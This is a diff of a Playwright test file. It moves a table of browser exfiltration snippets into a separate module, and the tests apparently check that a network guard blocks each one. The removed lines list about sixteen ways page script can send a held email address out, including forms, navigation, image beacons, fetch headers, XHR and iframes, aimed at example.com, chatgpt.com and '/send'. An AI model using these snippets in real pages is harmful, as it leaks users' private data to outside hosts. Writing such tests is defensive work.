@@ -1,5 +1,6 @@
 import type { Page } from '@playwright/test';
 import { expect, netTest as test } from './net-test.ts';
+import { OTHER_WAYS } from './net-ways.ts';
 
 const HELD = 'sato.hanako@example-shop.jp';
 
@@ -8,39 +9,7 @@ const tryOut = (page: Page, code: string): Promise<unknown> =>
   page.evaluate(`(async () => { ${code} })().catch(() => undefined)`);
 
 test.describe('other ways out', () => {
-  const WAYS: Readonly<Record<string, (held: string) => string>> = {
-    'a form that submits itself': (held) =>
-      `const f = document.createElement('form'); f.method = 'post'; f.action = '/send'; f.target = 'sink';
-       f.innerHTML = '<input name=action><input name=message>'; f.elements.message.value = '${held}';
-       document.body.append(f); HTMLFormElement.prototype.submit.call(f);`,
-    'a form that is submitted by script': (held) =>
-      `const f = document.createElement('form'); f.action = '/send'; f.target = 'sink';
-       f.innerHTML = '<input name=message>'; f.elements.message.value = '${held}'; document.body.append(f); f.requestSubmit();`,
-    'an address that is gone to': (held) => `location.href = '/send?q=' + encodeURIComponent('${held}');`,
-    'an address that replaces this one': (held) => `location.replace('https://example.com/send?q=${held}');`,
-    'a link that script presses': (held) =>
-      `const a = document.createElement('a'); a.href = '/send?q=${held}'; document.body.append(a); a.click();`,
-    'a window that is opened': (held) => `const w = open('/send?q=${held}'); setTimeout(() => w?.close(), 600);`,
-    'a picture': (held) => `new Image().src = 'https://example.com/send?q=' + btoa('${held}');`,
-    'an event source': (held) => `new EventSource('/send?q=${held}').close;`,
-    'an address in fetch': (held) => `await fetch('/send?q=' + encodeURIComponent(' ${held}'));`,
-    'a header of fetch': (held) => `await fetch('/send', { headers: { 'x-text': '${held}' } });`,
-    'a header of a request': (held) => `await fetch(new Request('/send', { headers: { 'x-text': '${held}' } }));`,
-    'an address in a request that blocks': (held) =>
-      `const x = new XMLHttpRequest(); x.open('POST', '/send', false); x.send('${held}');`,
-    'a fresh frame': (held) =>
-      `const f = document.createElement('iframe'); document.body.append(f);
-       await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}' });`,
-    'a frame on its way': (held) =>
-      `const f = document.createElement('iframe'); f.src = '/never'; document.body.append(f);
-       await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}'  });`,
-    'a frame that was written': (held) =>
-      `const f = document.createElement('iframe'); f.srcdoc = '<script>go = (t) => fetch("https://chatgpt.com/send", { method: "POST", body: t })<\\/script>';
-       document.body.append(f); await new Promise((r) => f.onload = r); await window[window.length - 1].go('${held}');`,
-    'a document that was opened anew': (held) =>
-      `document.open(); document.write('<p>new'); document.close(); await fetch('/send', { method: 'POST', body: '${held}' });`,
-  };
-  for (const [name, code] of Object.entries(WAYS)) {
+  for (const [name, code] of Object.entries(OTHER_WAYS)) {
     test(name, async ({ net }) => {
       await net.page.evaluate(() => {
         const sink = Object.assign(document.createElement('iframe'), { name: 'sink' });
